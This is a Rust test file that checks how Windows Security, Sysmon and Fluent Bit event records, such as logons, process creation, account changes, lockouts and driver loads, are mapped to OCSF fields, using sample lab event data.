                <Data Name='TargetImage'>C:\\Windows\\explorer.exe</Data><Data Name='NewThreadId'>7010</Data>\
                <Data Name='StartAddress'>0x00007FF6A1B20000</Data><Data Name='StartModule'>-</Data><Data Name='StartFunction'>-</Data>\
                <Data Name='SourceUser'>LAB\\t.ngata</Data><Data Name='TargetUser'>LAB\\t.ngata</Data>";
    let ocsf = only_record(&sysmon_event(8, data));
    assert_eq!(ocsf["class_uid"], 1007);
    assert_eq!(ocsf["activity_id"], 4, "Inject");
    assert_eq!(ocsf["injection_type_id"], 1);
    assert_eq!(ocsf["process"]["pid"], 4032);
    assert_eq!(ocsf["actor"]["process"]["path"], "C:\\Users\\t.ngata\\loader.exe");
    assert_eq!(ocsf["unmapped"]["StartAddress"], "0x00007FF6A1B20000");
}

#[test]
fn changed_group_maps_to_group_management() {
    for id in [4735, 4737, 4755, 4764] {
        let data = format!(
            "<Data Name='TargetUserName'>Helpdesk</Data><Data Name='TargetDomainName'>CORP</Data>\
             <Data Name='TargetSid'>S-1-5-21-3623811015-3361044348-30300820-1120</Data>{SUBJECT}"
        );
        let ocsf = only_record(&security_event(id, &data));
        assert_eq!(ocsf["class_uid"], 3006, "{id}");
        assert_eq!(ocsf["activity_id"], 99, "{id}");
        assert_eq!(ocsf["group"]["name"], "Helpdesk", "{id}");
        assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer", "{id}");
    }
}

#[test]
fn sysmon_other_file_events_map() {
    let stream = "<Data Name='ProcessGuid'>{5b0c2e7a-3a00-66aa-9c01-000000003100}</Data><Data Name='ProcessId'>3120</Data>\
                  <Data Name='Image'>C:\\Program Files\\Browser\\browser.exe</Data>\
                  <Data Name='TargetFilename'>C:\\Users\\t.ngata\\Downloads\\setup.exe:Zone.Identifier</Data>\
                  <Data Name='Hash'>SHA256=CC33DD44EE55FF6600112233445566778899AABBCCDDEEFF0011223344556677</Data>\
                  <Data Name='Contents'>[ZoneTransfer]  ZoneId=3</Data><Data Name='User'>LAB\\t.ngata</Data>";
    let created = only_record(&sysmon_event(15, stream));
    assert_eq!(created["class_uid"], 1001);
    assert_eq!(created["activity_id"], 1);
    assert_eq!(created["file"]["hashes"][0]["algorithm_id"], 3);
    assert_eq!(created["actor"]["process"]["pid"], 3120);

    let stomp = "<Data Name='ProcessId'>3121</Data><Data Name='Image'>C:\\Users\\Public\\ts.exe</Data>\
                 <Data Name='TargetFilename'>C:\\Users\\Public\\helper.dll</Data>\
                 <Data Name='CreationUtcTime'>2019-06-01 08:00:00.000</Data>\
                 <Data Name='PreviousCreationUtcTime'>2026-03-02 09:59:00.000</Data><Data Name='User'>LAB\\t.ngata</Data>";
    let changed = only_record(&sysmon_event(2, stomp));
    assert_eq!(changed["activity_id"], 6, "Set Attributes");
    assert_eq!(changed["unmapped"]["CreationUtcTime"], "2019-06-01 08:00:00.000");
    assert!(changed["file"].get("is_deleted").is_none());

    let blocked = only_record(&sysmon_event(27, "<Data Name='ProcessId'>3122</Data><Data Name='Image'>C:\\Windows\\explorer.exe</Data><Data Name='TargetFilename'>C:\\Users\\Public\\drop.exe</Data>"));
    assert_eq!(blocked["activity_id"], 1);
    assert_eq!(blocked["action_id"], 2);
    assert_eq!(blocked["status_id"], 2);
}

#[test]
fn sysmon_driver_load_maps_to_kernel_extension() {
    let data = "<Data Name='UtcTime'>2026-03-02 10:00:00.000</Data>\
                <Data Name='ImageLoaded'>C:\\Windows\\System32\\drivers\\probe.sys</Data>\
                <Data Name='Hashes'>SHA256=DD44EE55FF6600112233445566778899AABBCCDDEEFF00112233445566778899</Data>\
                <Data Name='Signed'>false</Data><Data Name='Signature'>-</Data><Data Name='SignatureStatus'>Unavailable</Data>";
    let ocsf = only_record(&sysmon_event(6, data));
    assert_eq!(ocsf["class_uid"], 1002);
    assert_eq!(ocsf["category_uid"], 1);
    assert_eq!(ocsf["activity_id"], 1);
    assert_eq!(ocsf["driver"]["file"]["name"], "probe.sys");
    assert_eq!(ocsf["driver"]["file"]["hashes"][0]["algorithm_id"], 3);
    assert_eq!(ocsf["unmapped"]["Signed"], "false");
}

#[test]
fn generated_items_follow_event_data_layouts() {
    for variant in META.variants {
        let mut request = crate::generate::GenerateRequest::new(META.id, 40);
        request.variant = Some(variant.name.to_string());
        let mut generator = crate::generate::Generator::new(&request).unwrap();
        let mut raw = String::new();
        while generator.next_raw(&mut raw).is_some() {
            let fields = generator.fields();
            let id: i64 = fields.get("EventID").unwrap().parse().unwrap();
            let version: i64 = fields.get("Version").unwrap().parse().unwrap();
            let layout = event_data::layout(id).unwrap_or_else(|| panic!("{}: event {id} has no layout", variant.name));
            let (_, count) = layout.versions.iter().find(|(known, _)| *known == version).unwrap();
            let written: Vec<&str> = fields.names().filter(|name| name.starts_with("EventData.") || name.starts_with("UserData.")).collect();
            let expected = &layout.items[..*count];
            assert_eq!(written, expected, "{}", variant.name);
        }
    }
}

/// Returns a record of Fluent Bit's `winevtlog` input with `inserts` as its `StringInserts`
/// and an empty message.
fn fluent_bit_record(id: u32, version: u32, inserts: &[&str]) -> String {
    let inserts = serde_json::to_string(inserts).unwrap();
    format!(
        r#"{{"ProviderName":"Microsoft-Windows-Security-Auditing","EventID":{id},"Version":{version},"Level":0,"Task":12544,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated":"2026-02-03 11:22:33 +0000","EventRecordID":88120,"ProcessID":780,"ThreadID":4120,"Channel":"Security","Computer":"SRV-07.lab.example","Message":"","StringInserts":{inserts}}}"#
    )
}

#[test]
fn fluent_bit_logon_names_inserts_by_position() {
    let inserts = [
        "S-1-5-18", "SRV-07$", "LAB", "0x3e7", "S-1-5-21-1004336348-1177238915-682003330-1608", "r.okafor", "LAB", "0x2c7f1a9", "10",
        "User32 ", "Negotiate", "WS-88", "{5b0e3f4c-96a1-2d2e-8c77-0f6f1c1c9d21}", "-", "-", "0", "0x1f4c", "C:\\Windows\\System32\\svchost.exe",
        "198.51.100.23", "0", "%%1833", "%%1843", "-", "-", "%%1843", "0x0", "%%1843",
    ];
    let ocsf = only_record(&fluent_bit_record(4624, 2, &inserts));
    assert_eq!(ocsf["class_uid"], 3002);
    assert_eq!(ocsf["user"]["name"], "r.okafor");
    assert_eq!(ocsf["user"]["domain"], "LAB");
    assert_eq!(ocsf["user"]["uid"], "S-1-5-21-1004336348-1177238915-682003330-1608");
    assert_eq!(ocsf["logon_type_id"], 10);
    assert_eq!(ocsf["session"]["uid"], "0x2c7f1a9");
    assert_eq!(ocsf["src_endpoint"]["ip"], "198.51.100.23");
    assert_eq!(ocsf["src_endpoint"]["hostname"], "WS-88");
    assert_eq!(ocsf["actor"]["user"]["name"], "SRV-07$");
    assert!(ocsf.get("unmapped").is_none_or(|unmapped| unmapped.get("StringInserts").is_none()));
}

#[test]
fn fluent_bit_failed_logon_reads_status() {
    let inserts = [
        "S-1-0-0", "-", "-", "0x0", "S-1-0-0", "svc-sql", "LAB", "0xc000006d", "%%2313", "0xc000006a", "3", "NtLmSsp ", "NTLM", "WS-88", "-", "-", "0",
        "0x0", "-", "198.51.100.140", "51122",
    ];
    let ocsf = only_record(&fluent_bit_record(4625, 0, &inserts));
    assert_eq!(ocsf["status_id"], 2);
    assert_eq!(ocsf["user"]["name"], "svc-sql");
    assert_eq!(ocsf["status_code"], "0xc000006a");
    assert_eq!(ocsf["status_detail"], "Unknown user name or bad password.");
    assert_eq!(ocsf["logon_type_id"], 3);
    assert_eq!(ocsf["auth_protocol"], "NTLM");
    assert_eq!(ocsf["src_endpoint"]["ip"], "198.51.100.140");
    assert_eq!(ocsf["src_endpoint"]["port"], 51122);
}

#[test]
fn fluent_bit_process_creation_reads_parent() {
    let inserts = [
        "S-1-5-21-1004336348-1177238915-682003330-1608", "r.okafor", "LAB", "0x2c7f1a9", "0x1a2c", "C:\\Windows\\System32\\whoami.exe", "%%1938", "0x1b40",
        "whoami  /groups", "S-1-0-0", "-", "-", "0x0", "C:\\Windows\\System32\\cmd.exe", "S-1-16-8192",
    ];
    let ocsf = only_record(&fluent_bit_record(4688, 2, &inserts));
    assert_eq!(ocsf["class_uid"], 1007);
    assert_eq!(ocsf["process"]["pid"], 0x1a2c);
    assert_eq!(ocsf["process"]["name"], "whoami.exe");
    assert_eq!(ocsf["process"]["cmd_line"], "whoami  /groups");
    assert_eq!(ocsf["process"]["parent_process"]["pid"], 0x1b40);
    assert_eq!(ocsf["process"]["parent_process"]["name"], "cmd.exe");
    assert_eq!(ocsf["process"]["integrity_id"], 3);
    assert_eq!(ocsf["actor"]["user"]["name"], "r.okafor");
}

#[test]
fn fluent_bit_short_inserts_name_only_present_items() {
    // Six values name the Subject and the new process, and nothing after them.
    let inserts = ["S-1-5-18", "SRV-07$", "LAB", "0x3e7", "0x1a2c", "C:\\Windows\\System32\\svchost.exe"];
    let ocsf = only_record(&fluent_bit_record(4688, 0, &inserts));
    assert_eq!(ocsf["process"]["pid"], 0x1a2c);
    assert_eq!(ocsf["process"]["name"], "svchost.exe");
    assert!(ocsf["process"].get("cmd_line").is_none());
    assert!(ocsf["process"].get("parent_process").is_none());
}

#[test]
fn fluent_bit_inserts_outside_layouts_keep_message_names() {
    // 4767 has no layout, so its values stay unnamed and the message names the account.
    let message = "A user account was unlocked.\\r\\n\\r\\nSubject:\\r\\n\\tSecurity ID:\\t\\tS-1-5-18\\r\\n\\tAccount Name:\\t\\tDC-01$\\r\\n\\r\\n\
                   Target Account:\\r\\n\\tSecurity ID:\\t\\tS-1-5-21-1-2-3-1013\\r\\n\\tAccount Name:\\t\\tj.meyer";
    let inserts = ["positional-name", "LAB", "S-1-5-21-1-2-3-1013", "S-1-5-18", "DC-01$", "LAB", "0x3e7"];
    let record = fluent_bit_record(4767, 0, &inserts).replace(r#""Message":"""#, &format!(r#""Message":"{message}""#));
    let ocsf = only_record(&record);
    assert_eq!(ocsf["class_uid"], 3001);
    assert_eq!(ocsf["user"]["name"], "j.meyer");

    // The same values of 4726, which has a layout, name the deleted account.
    let ocsf = only_record(&fluent_bit_record(4726, 0, &inserts));
    assert_eq!(ocsf["user"]["name"], "positional-name");
    assert_eq!(ocsf["actor"]["user"]["name"], "DC-01$");
}

#[test]
fn fluent_bit_message_ids_beat_rendered_text() {
    let message = "An account failed to log on.\\r\\n\\r\\nAccount For Which Logon Failed:\\r\\n\\tAccount Name:\\t\\tsvc-sql\\r\\n\\r\\n\
                   Failure Information:\\r\\n\\tFailure Reason:\\t\\tUnknown user name or bad password.\\r\\n\\tStatus:\\t\\t\\t0xC000006D";
    let inserts = ["S-1-0-0", "-", "-", "0x0", "S-1-0-0", "inserted-name", "LAB", "0xc000006d", "%%2313", "0xc0000064"];
    let record = fluent_bit_record(4625, 0, &inserts).replace(r#""Message":"""#, &format!(r#""Message":"{message}""#));
    let ocsf = only_record(&record);
    assert_eq!(ocsf["user"]["name"], "svc-sql", "a labelled message value stays");
    assert_eq!(ocsf["status_detail"], "Unknown user name or bad password.");
    assert_eq!(ocsf["status_code"], "0xc0000064", "the message has no sub status");
}

#[test]
fn fluent_bit_inserts_beyond_their_version_stay_unnamed() {
    let mut inserts = vec!["-"; 9];
    inserts[5] = "C:\\Windows\\System32\\svchost.exe";
    inserts[8] = "svchost.exe -k netsvcs";

    // Version 1 of 4688 has nine items, the last of them the command line.
    let ocsf = only_record(&fluent_bit_record(4688, 1, &inserts));
    assert_eq!(ocsf["process"]["name"], "svchost.exe");
    assert_eq!(ocsf["process"]["cmd_line"], "svchost.exe -k netsvcs");

    // Version 0 has eight, so nine values do not fit its layout.
    let ocsf = only_record(&fluent_bit_record(4688, 0, &inserts));
    assert!(ocsf["process"].get("name").is_none());
    assert!(ocsf["process"].get("cmd_line").is_none());
}

#[test]
fn lockout_message_names_locked_account() {
    let message = "A user account was locked out.\\r\\n\\r\\nSubject:\\r\\n\\tSecurity ID:\\t\\tS-1-5-18\\r\\n\\tAccount Name:\\t\\tDC-01$\\r\\n\
                   \\tAccount Domain:\\t\\tLAB\\r\\n\\tLogon ID:\\t\\t0x3E7\\r\\n\\r\\nAccount That Was Locked Out:\\r\\n\
                   \\tSecurity ID:\\t\\tS-1-5-21-1-2-3-1013\\r\\n\\tAccount Name:\\t\\tj.meyer\\r\\n\\r\\nAdditional Information:\\r\\n\
                   \\tCaller Computer Name:\\tWS-07";
    let record = fluent_bit_record(4740, 0, &[]).replace(r#""Message":"""#, &format!(r#""Message":"{message}""#));
    let ocsf = only_record(&record);
    assert_eq!(ocsf["class_uid"], 3001);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
    assert_eq!(ocsf["actor"]["user"]["name"], "DC-01$");
    assert_eq!(ocsf["src_endpoint"]["hostname"], "WS-07", "the caller computer");
    assert!(ocsf["user"].get("domain").is_none());
}

/// Target and Subject values of the user account events, in the order of 4722, 4724, 4725
/// and 4740.
const ACCOUNT_INSERTS: [&str; 7] = [
    "j.meyer",
    "LAB",
    "S-1-5-21-1004336348-1177238915-682003330-1013",
    "S-1-5-21-1004336348-1177238915-682003330-500",
    "adm.okafor",
    "LAB",
    "0x5c3a21",
];

/// Returns the Fluent Bit record of `id` with `inserts` and the Audit Failure keyword.
fn failed_fluent_bit_record(id: u32, inserts: &[&str]) -> String {
    fluent_bit_record(id, 0, inserts).replace(r#""Keywords":"0x8020000000000000""#, r#""Keywords":"0x8010000000000000""#)
}

#[test]
fn fluent_bit_account_events_name_inserts_by_position() {
    // Enabled, password reset and disabled, with their OCSF Account Change activities.
    for (id, activity_id) in [(4722, 2), (4724, 4), (4725, 5)] {
        let record = testing::assert_parses(META.id, &fluent_bit_record(id, 0, &ACCOUNT_INSERTS)).remove(0);
        let fields = &record.parsed.fields;
        assert_eq!(fields["EventData.TargetUserName"], "j.meyer", "{id}");
        assert_eq!(fields["EventData.TargetSid"], "S-1-5-21-1004336348-1177238915-682003330-1013", "{id}");
        assert_eq!(fields["EventData.SubjectLogonId"], "0x5c3a21", "{id}");

        let ocsf = record.ocsf.into_map();
        assert_eq!(ocsf["class_uid"], 3001, "{id}");
        assert_eq!(ocsf["activity_id"], activity_id, "{id}");
        assert_eq!(ocsf["status_id"], 1, "{id}");
        assert_eq!(ocsf["user"]["name"], "j.meyer", "{id}");
        assert_eq!(ocsf["user"]["domain"], "LAB", "{id}");
        assert_eq!(ocsf["user"]["uid"], "S-1-5-21-1004336348-1177238915-682003330-1013", "{id}");
        assert_eq!(ocsf["actor"]["user"]["name"], "adm.okafor", "{id}");
        assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-21-1004336348-1177238915-682003330-500", "{id}");
    }

    // An eighth value does not fit these events, so no value gets a name.
    let mut inserts = ACCOUNT_INSERTS.to_vec();
    inserts.push("-");
    let record = testing::assert_parses(META.id, &fluent_bit_record(4722, 0, &inserts)).remove(0);
    assert!(!record.parsed.fields.contains_key("EventData.TargetUserName"));
}

#[test]
fn fluent_bit_failed_password_reset_is_failure() {
    let ocsf = only_record(&failed_fluent_bit_record(4724, &ACCOUNT_INSERTS));
    assert_eq!(ocsf["activity_id"], 4);
    assert_eq!(ocsf["status_id"], 2);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
}

#[test]
fn fluent_bit_password_change_names_inserts_by_position() {
    // 4723 has the items of 4722 and then PrivilegeList. Users change their own password.
    let inserts = [
        "j.meyer",
        "LAB",
        "S-1-5-21-1004336348-1177238915-682003330-1013",
        "S-1-5-21-1004336348-1177238915-682003330-1013",
        "j.meyer",
        "LAB",
        "0x2c7f1a9",
        "-",
    ];
    let record = testing::assert_parses(META.id, &fluent_bit_record(4723, 0, &inserts)).remove(0);
    assert_eq!(record.parsed.fields["EventData.PrivilegeList"], "-");
    let ocsf = record.ocsf.into_map();
    assert_eq!(ocsf["class_uid"], 3001);
    assert_eq!(ocsf["activity_id"], 3);
    assert_eq!(ocsf["status_id"], 1);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
    assert_eq!(ocsf["user"]["uid"], "S-1-5-21-1004336348-1177238915-682003330-1013");

    // A new password that fails the password policy gives an Audit Failure event.
    let ocsf = only_record(&failed_fluent_bit_record(4723, &inserts));
    assert_eq!(ocsf["activity_id"], 3);
    assert_eq!(ocsf["status_id"], 2);
}

#[test]
fn fluent_bit_changed_account_names_inserts_by_position() {
    // 4738 starts with Dummy, then has the items of 4720. Attributes that did not change are `-`.
    let mut inserts = vec!["-"; 27];
    inserts[1] = "j.meyer";
    inserts[2] = "LAB";
    inserts[3] = "S-1-5-21-1004336348-1177238915-682003330-1013";
    inserts[4] = "S-1-5-21-1004336348-1177238915-682003330-500";
    inserts[5] = "adm.okafor";
    inserts[6] = "LAB";
    inserts[7] = "0x5c3a21";
    inserts[10] = "Jana Meyer";
    inserts[21] = "0x210";
    inserts[22] = "0x211";
    inserts[23] = "%%2080";
    let record = testing::assert_parses(META.id, &fluent_bit_record(4738, 0, &inserts)).remove(0);
    let fields = &record.parsed.fields;
    assert_eq!(fields["EventData.Dummy"], "-");
    assert_eq!(fields["EventData.DisplayName"], "Jana Meyer");
    assert_eq!(fields["EventData.OldUacValue"], "0x210");
    assert_eq!(fields["EventData.NewUacValue"], "0x211");
    assert_eq!(fields["EventData.UserAccountControl"], "%%2080");
    assert_eq!(fields["EventData.LogonHours"], "-");

    let ocsf = record.ocsf.into_map();
    assert_eq!(ocsf["class_uid"], 3001);
    assert_eq!(ocsf["activity_id"], 99);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
    assert_eq!(ocsf["user"]["domain"], "LAB");
    assert_eq!(ocsf["user"]["uid"], "S-1-5-21-1004336348-1177238915-682003330-1013");
    assert_eq!(ocsf["user"]["full_name"], "Jana Meyer");
    assert_eq!(ocsf["actor"]["user"]["name"], "adm.okafor");
}

#[test]
fn fluent_bit_lockout_names_caller_computer() {
    let mut inserts = ACCOUNT_INSERTS;
    // The domain controller's system account locks the account on a logon attempt from WS-07.
    inserts[1] = "WS-07";
    inserts[3] = "S-1-5-18";
    inserts[4] = "DC-01$";
    inserts[6] = "0x3e7";
    let ocsf = only_record(&fluent_bit_record(4740, 0, &inserts));
    assert_eq!(ocsf["class_uid"], 3001);
    assert_eq!(ocsf["activity_id"], 9);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
    assert_eq!(ocsf["user"]["uid"], "S-1-5-21-1004336348-1177238915-682003330-1013");
    assert!(ocsf["user"].get("domain").is_none(), "TargetDomainName of 4740 is the caller computer");
    assert_eq!(ocsf["src_endpoint"]["hostname"], "WS-07");
    assert_eq!(ocsf["actor"]["user"]["name"], "DC-01$");
    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-18");
}
